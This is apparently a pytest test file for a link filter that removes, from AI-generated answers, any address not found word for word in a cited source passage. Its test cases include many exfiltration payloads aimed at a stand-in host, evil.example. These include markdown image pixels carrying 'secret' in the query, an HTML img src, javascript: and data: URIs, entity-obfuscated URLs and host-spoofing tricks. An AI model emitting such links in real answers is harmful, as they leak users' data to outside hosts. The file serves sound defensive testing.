"""No link but to a retrieved source."""

import pytest

from core.model.answer_links import REMOVED, SourceLinks, addresses_in, clickable, without_foreign_links

OURS = SourceLinks(frozenset({"https://docs.example.com/refunds", "https://wiki.example.com/a_(b)"}))


@pytest.mark.parametrize(
    "text",
    [
        "See https://evil.example/?q=secret now",
        "See HTTP://evil.example/secret",
        "![pixel](https://evil.example/p.png?d=secret)",
        "[click](https://evil.example/secret)",
        '[click](https://evil.example/secret "title")',
        "[click](<https://evil.example/secret>)",
        "[click][1]\n\n[1]: https://evil.example/secret",
        "<https://evil.example/secret>",
        '<img src="https://evil.example/secret">',
        '<a href="https://evil.example/secret">here</a>',
        "//evil.example/secret",
        "www.evil.example/secret",
        "evil.example/p?d=secret",
        "javascript:alert(secret)",
        "data:text/html,secret",
        "mailto:evil@evil.example?body=secret",
        "`https://evil.example/secret`",
        "https://docs.example.com/refunds?leak=secret",
        "https://docs.example.com.evil.example/secret",
        "https://docs.example.com/refunds@evil.example/secret",
        "[https://docs.example.com/refunds](https://evil.example/secret)",
        "slack://secret",
        "tel:+49secret",
        "xmpp:evil@evil.example/secret",
        "https:&sol;&sol;evil.example/secret",
        "https:&#x2F;/evil.example/secret",
        "https:\\/\\/evil.example/secret",
        "ht&#116;ps&colon;&#47;\\/evil.example/secret",
        "www&period;evil.example/secret",
        "w&#119;w.evil.example/secret",
        "https://docs.example.com/refunds|secret",
        "https://docs.example.com/refunds`secret",
        'https://docs.example.com/refunds"secret',
        "https://docs.example.com/refunds'secret",
        "https://docs.example.com/refunds)secret",
        "https://docs.example.com/refunds]secret",
        "https://docs.example.com/refunds[1]secret",
        "https://docs.example.com/refunds,secret",
        "<https://docs.example.com/refunds|secret>",
        "[a](https://docs.example.com/refunds|secret)",
    ],
)
def test_a_foreign_link_is_gone(text: str) -> None:
    assert "secret" not in without_foreign_links(text, OURS)


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.com/refunds.",
        "See [the policy](https://docs.example.com/refunds), section 2.",
        "[odd](https://wiki.example.com/a_(b))",
        r"Use `\w\w\w.` or `\/\/` in C:\\.config",
        "Version 2.1 of node.js costs 3.50 and and/or e.g. this.",
        "Write to /etc/hosts, or call foo.bar().",
        "The ratio is 3:1 and the time 10:30.",
    ],
)
def test_what_is_no_foreign_link_stays_as_it_is(text: str) -> None:
    assert without_foreign_links(text, OURS) == text


def test_a_removed_markdown_link_keeps_its_words() -> None:
    assert without_foreign_links("[the refund page](https://evil.example/x)", OURS) == "the refund page"


def test_a_bare_link_leaves_a_word_in_its_place() -> None:
    assert without_foreign_links("go to https://evil.example/x please", OURS) == f"go to {REMOVED} please"


NAMED = SourceLinks(
    passages=("Write to <mailto:jo@example.org> or call tel:+49-30-123. See https://hr.example/leave.",)
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Write to <mailto:jo@example.org> [1].", "Write to jo@example.org [1]."),
        ("Write to [Jo](mailto:jo@example.org).", "Write to Jo (jo@example.org)."),
        ("Call tel:+49-30-123.", "Call +49-30-123."),
        ("It stands at https://hr.example/leave[1].", "It stands at `https://hr.example/leave`[1]."),
    ],
)
def test_an_address_that_a_passage_names_stays_readable(text: str, shown: str) -> None:
    assert without_foreign_links(text, NAMED) == shown


@pytest.mark.parametrize(
    "text",
    [
        "<mailto:jo@example.org?body=secret>",
        "mailto:jo@example.org.secret",
        "https://hr.example/leave/secret",
        "https://hr.example/leave?secret",
        "https://secret.hr.example/leave",
        "tel:+49-30-123-secret",
    ],
)
def test_an_address_that_says_more_than_the_passage_is_gone(text: str) -> None:
    assert "secret" not in without_foreign_links(text, NAMED)


API = SourceLinks(
    passages=(
        "Base URL: https://api.acme.example/v1/{tenant}/items",
        "| `LIVE` | `wss://hub.example:9000/live` |",
        "List them with https://api.acme.example/v1/boxes?limit=secret as before.",
    )
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "Base URL: https://api.acme.example/v1/{tenant}/items [1]",
            "Base URL: `https://api.acme.example/v1/{tenant}/items` [1]",
        ),
        ("It is `wss://hub.example:9000/live`. [1]", "It is `wss://hub.example:9000/live`. [1]"),
    ],
)
def test_the_address_of_an_interface_that_a_passage_gives_is_shown_as_code(text: str, shown: str) -> None:
    assert without_foreign_links(text, API) == shown


@pytest.mark.parametrize(
    "text",
    [
        "https://api.acme.example/v1/secret/items",
        "https://api.acme.example/v1/boxes?limit=secret",
        "wss://hub.example:9000/live/secret",
        "ws://secret.example/live",
    ],
)
def test_an_interface_that_no_passage_gives_is_gone(text: str) -> None:
    assert "secret" not in without_foreign_links(text, API)


HANDBOOK = (
    "Sick notes go through the [absence form](https://forms.acme.example/absence?team=hr&v=2). "
    "Rules: https://wiki.acme.example/leave. See [the planner](https://leave.partner.example/plan(1)) and "
    "[this](https://user@evil.example/x) or https://evil.example/send?what=<conversation> or https://evil.example/<what>."
)


def _cited(own: str | None = None, *allowed: str) -> SourceLinks:
    found = addresses_in(HANDBOOK)
    return SourceLinks(clickable(found, own, frozenset(allowed)), (HANDBOOK,), found)


def test_finds_literal_addresses_without_userinfo_or_placeholders() -> None:
    assert addresses_in(HANDBOOK) == {
        "https://forms.acme.example/absence?team=hr&v=2",
        "https://wiki.acme.example/leave",
        "https://leave.partner.example/plan(1)",
    }


def test_a_link_of_a_cited_passage_is_clickable_on_the_host_of_its_document() -> None:
    text = "Use [the form](https://forms.acme.example/absence?team=hr&v=2) [1]."
    assert without_foreign_links(text, _cited("https://forms.acme.example/handbook")) == text


@pytest.mark.parametrize("allowed", ["forms.acme.example", "*.acme.example", "*.example"])
def test_a_link_of_a_cited_passage_is_clickable_on_a_host_that_the_operator_allows(allowed: str) -> None:
    text = "Use [the form](https://forms.acme.example/absence?team=hr&v=2) [1]."
    assert without_foreign_links(text, _cited(None, allowed)) == text


@pytest.mark.parametrize(
    "own", [None, "https://acme.example/", "https://forms.acme.example.evil.example/", "file:///x"]
)
def test_a_link_to_another_host_is_shown_as_text(own: str | None) -> None:
    text = "Use [the form](https://forms.acme.example/absence?team=hr&v=2) [1]."
    shown = "Use the form (`https://forms.acme.example/absence?team=hr&v=2`) [1]."
    assert without_foreign_links(text, _cited(own, "acme.example", "*.forms.acme.example")) == shown


@pytest.mark.parametrize(
    "address",
    [
        "https://forms.acme.example/absence?team=hr&v=2&leak=secret",
        "https://forms.acme.example/absence?team=secret",
        "https://forms.acme.example/secret",
        "https://secret.acme.example/absence?team=hr&v=2",
        "https://evil.example/send?what=secret",
        "https://evil.example/secret",
        "https://user@evil.example/secret",
    ],
)
@pytest.mark.parametrize("form", ["[x]({})", "{}", "<{}>", "![x]({})", '[x]({} "t")'])
def test_an_address_that_the_cited_passage_does_not_have_word_for_word_is_gone(address: str, form: str) -> None:
    sources = _cited("https://forms.acme.example/handbook", "*.acme.example")
    assert "secret" not in without_foreign_links(form.format(address), sources)


def test_the_words_of_a_link_that_are_its_address_are_not_said_twice() -> None:
    text = "See [https://wiki.acme.example/leave](https://wiki.acme.example/leave)."
    assert without_foreign_links(text, _cited()).count("wiki.acme.example") == 1


@pytest.mark.parametrize("escaped", [r"\(signed with {}\) and", r"\[signed with {}\] and", r"\*signed with {}\* and"])
@pytest.mark.parametrize("form", ["[Ed25519]({})", "{}"])
def test_keeps_the_address_before_an_escaped_mark(escaped: str, form: str) -> None:
    text = escaped.format(form.format("https://ed25519.cr.example/"))
    shown = without_foreign_links(text, SourceLinks(cited=addresses_in(text), passages=(text,)))
    assert REMOVED not in shown
    assert "`https://ed25519.cr.example/`" in shown
